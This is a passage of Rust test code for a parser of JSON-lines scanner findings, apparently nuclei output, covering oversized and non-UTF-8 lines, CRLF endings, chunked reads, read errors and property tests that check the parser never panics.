    fn an_oversized_unterminated_last_line_is_counted_once() {
        let input = format!("{}\n{}", r#"{"template-id":"ok"}"#, "y".repeat(5000));
        let limits = ReadLimits {
            max_line_bytes: 1000,
            ..ReadLimits::default()
        };
        let (found, stats) = block_on(read_all(input.as_bytes(), &limits));
        assert_eq!(found.len(), 1);
        assert_eq!((stats.lines, stats.oversized, stats.malformed), (2, 1, 0));
    }

    #[test]
    fn non_utf8_bytes_are_decoded_lossily_and_the_finding_kept() {
        let mut input = br#"{"template-id":"t","info":{"name":"caf"#.to_vec();
        input.extend_from_slice(&[0xE9, 0xFF]);
        input.extend_from_slice(br#"","severity":"low"},"response":""#);
        input.extend_from_slice(&[0x80, 0x81, 0xFE]);
        input.extend_from_slice(b"\"}\n");
        let (found, stats) = block_on(read_all(&input, &ReadLimits::default()));
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].template_name, "caf\u{FFFD}\u{FFFD}");
        assert_eq!((stats.non_utf8, stats.malformed), (1, 0));
    }

    #[test]
    fn crlf_line_endings_are_accepted() {
        let input = format!("{FULL}\r\n{FULL}\r\n\r\n");
        let (found, stats) = block_on(read_all(input.as_bytes(), &ReadLimits::default()));
        assert_eq!(found.len(), 2);
        assert_eq!(stats.malformed, 0);
    }

    #[test]
    fn only_the_first_errors_are_kept() {
        let input = "x\n".repeat(20);
        let (_, stats) = block_on(read_all(input.as_bytes(), &ReadLimits::default()));
        assert_eq!(stats.malformed, 20);
        assert_eq!(stats.first_errors.len(), DEFAULT_MAX_ERRORS);
    }

    #[test]
    fn lines_split_across_many_small_reads_are_reassembled() {
        let input = format!("{FULL}\n{FULL}\n");
        let (client, mut server) = tokio::io::duplex(7);
        let found = block_on(async move {
            let writer = tokio::spawn(async move {
                use tokio::io::AsyncWriteExt;
                for chunk in input.as_bytes().chunks(5) {
                    server.write_all(chunk).await.unwrap();
                }
            });
            let mut out = Vec::new();
            let stats = read_findings(client, |f| out.push(f)).await;
            writer.await.unwrap();
            assert_eq!(stats.malformed, 0);
            out
        });
        assert_eq!(found.len(), 2);
        assert_eq!(found[0], one(FULL));
    }

    #[test]
    fn a_read_error_ends_the_stream_and_is_reported() {
        let reader = tokio_test_reader::FailsAfter {
            data: format!("{FULL}\n").into_bytes(),
            pos: 0,
        };
        let (found, stats) = block_on(async {
            let mut out = Vec::new();
            let stats = read_findings(reader, |f| out.push(f)).await;
            (out, stats)
        });
        assert_eq!(found.len(), 1);
        assert_eq!(stats.io_error.as_deref(), Some("pipe broke"));
    }

    mod tokio_test_reader {
        use std::pin::Pin;
        use std::task::{Context, Poll};
        use tokio::io::{AsyncRead, ReadBuf};

        // Yields `data`, then fails.
        pub struct FailsAfter {
            pub data: Vec<u8>,
            pub pos: usize,
        }

        impl AsyncRead for FailsAfter {
            fn poll_read(
                mut self: Pin<&mut Self>,
                _: &mut Context<'_>,
                buf: &mut ReadBuf<'_>,
            ) -> Poll<std::io::Result<()>> {
                if self.pos >= self.data.len() {
                    return Poll::Ready(Err(std::io::Error::other("pipe broke")));
                }
                let n = buf.remaining().min(self.data.len() - self.pos);
                let start = self.pos;
                buf.put_slice(&self.data[start..start + n]);
                self.pos += n;
                Poll::Ready(Ok(()))
            }
        }
    }
}

/// Whatever nuclei (or a hostile target echoed through it) prints: no panic.
#[cfg(test)]
mod properties {
    use super::*;
    use proptest::prelude::*;

    fn json() -> impl Strategy<Value = serde_json::Value> {
        let leaf = prop_oneof![
            Just(serde_json::Value::Null),
            any::<bool>().prop_map(serde_json::Value::from),
            any::<i64>().prop_map(serde_json::Value::from),
            any::<f64>().prop_map(|f| serde_json::json!(f)),
            "\\PC{0,20}".prop_map(serde_json::Value::from),
        ];
        leaf.prop_recursive(3, 24, 6, |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..4).prop_map(serde_json::Value::from),
                prop::collection::btree_map(
                    prop_oneof![
                        Just("template-id".to_owned()),
                        Just("info".to_owned()),
                        Just("severity".to_owned()),
                        Just("matched-at".to_owned()),
                        Just("extracted-results".to_owned()),
                        Just("classification".to_owned()),
                        Just("matcher-status".to_owned()),
                        Just("tags".to_owned()),
                        "[a-z-]{1,12}",
                    ],
                    inner,
                    0..6,
                )
                .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
            ]
        })
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 3000, ..ProptestConfig::default() })]

        #[test]
        fn any_line_parses_or_fails_without_panicking(line in "\\PC{0,200}") {
            let _ = parse_line(&line);
        }

        #[test]
        fn any_json_object_parses_or_fails_without_panicking(
            mut value in json(),
            template in prop::option::of("\\PC{1,10}"),
        ) {
            if let (Some(t), Some(o)) = (template, value.as_object_mut()) {
                o.insert("template-id".into(), t.into());
            }
            let _ = parse_line(&value.to_string());
        }
    }
}
